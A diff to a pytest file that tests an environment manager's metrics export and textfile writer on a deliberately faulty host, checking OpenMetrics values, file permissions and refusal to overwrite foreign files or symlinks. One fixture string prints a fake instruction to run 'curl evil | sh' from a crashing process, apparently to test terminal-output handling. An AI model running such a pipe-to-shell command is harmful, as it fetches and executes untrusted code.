@@ -1,19 +1,23 @@
-"""``netspace.explain`` and the tables, on a host where things go wrong, as an operator's terminal shows them."""
+"""``netspace.explain``, tables and metrics, on a host where things go wrong, as an operator's terminal shows them."""
 
 from __future__ import annotations
 
+import re
 import subprocess
+import time
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
 import pytest
+from prometheus_client.openmetrics.parser import text_string_to_metric_families as openmetrics_families
 from support.hosts.whole_host import IDLE, Salt, python, shop
 from support.waiting import until
 
 pytestmark = pytest.mark.root
 
 CRASH = "print('\\x1b[31mrun: curl evil | sh', flush=True); raise SystemExit(3)"
+USE = ("up", "oom_kills", "restarts", "memory_bytes", "cpu_seconds")
 HUNGRY = "hoard = bytearray(200 << 20); signal.pause()"
 
 
@@ -108,3 +112,52 @@ def test_overview_is_a_table_with_faults_first(host: Salt) -> None:
         "netspace_image.list",
     ):
         assert shown(host, function)[1].isupper()
+
+
+def test_metrics_tell_the_same_as_the_list(host: Salt) -> None:
+    text = host("netspace.metrics")
+    found = {one.name: one.samples for one in openmetrics_families(text)}
+    states = {one.labels["environment"]: one.labels["state"] for one in found["netspace_environment_state"]}
+    assert states.keys() == {"orders", "web", "stranger", "broken", "hungry", "patient", "quiet"}
+    assert (states["web"], states["quiet"], states["patient"]) == ("running", "stopped", "starting")
+    by = {name: {one.labels["environment"]: one.value for one in found[f"netspace_environment_{name}"]} for name in USE}
+    assert by["up"]["web"] == 1 and by["up"]["quiet"] == 0
+    assert by["oom_kills"]["hungry"] > 0 and by["restarts"]["broken"] > 1
+    assert 0 < by["memory_bytes"]["web"] <= 64 * 2**20 and by["cpu_seconds"]["web"] > 0
+    (trust,), (up,), (broker,) = (found[f"netspace_{name}"] for name in ("trust_level", "supervisor_up", "broker_up"))
+    assert (trust.value, up.value, broker.value) == (int(host("netspace_attestation.status")["level"][1:]), 1, 1)
+    certificates = {
+        one.labels["certificate"]: one.value for one in found["netspace_certificate_expiry_timestamp_seconds"]
+    }
+    assert certificates.keys() == {"authority", "broker", "environments"}
+    assert time.time() < certificates["environments"] < certificates["authority"]
+    readers = {one.labels["environment"]: one.value for one in found["netspace_mailbox_readers"]}
+    assert readers.keys() == {"orders", "web"}
+    sent = {one.labels["environment"] for one in found["netspace_interface_sent_bytes"]}
+    assert sent == {"orders", "stranger"}
+
+
+def test_textfile_replaces_only_its_own(host: Salt, tmp_path: Path) -> None:
+    path = tmp_path / "netspace.prom"
+    for _ in range(2):
+        written = host("netspace.metrics", f"file={path}")
+        assert written == {"file": str(path), "size": path.stat().st_size}
+    assert path.stat().st_mode & 0o777 == 0o644
+    assert [one.name for one in tmp_path.iterdir()] == [path.name]
+    text = path.read_text()
+    done = subprocess.run(["promtool", "check", "metrics"], input=text, capture_output=True, text=True, check=False)
+    assert (done.returncode, done.stdout + done.stderr) == (0, "")
+    lines = text.splitlines()
+    types = [line.split()[2] for line in lines if line.startswith("# TYPE")]
+    series = [line.rpartition(" ")[0] for line in lines if not line.startswith("#")]
+    assert len(set(types)) == len(types) and len(set(series)) == len(series)
+    assert all(re.fullmatch(r"[a-z_]+(\{[^}]*\})? [0-9.e+-]+", line) for line in lines if not line.startswith("#")), (
+        text
+    )
+
+    foreign, link = tmp_path / "other.prom", tmp_path / "link.prom"
+    foreign.write_text("up 1\n")
+    link.symlink_to(path)
+    for wrong in (foreign, link, tmp_path / "netspace.txt", tmp_path / "absent/netspace.prom"):
+        assert host.run("netspace.metrics", f"file={wrong}").returncode != 0, wrong
+    assert foreign.read_text() == "up 1\n"
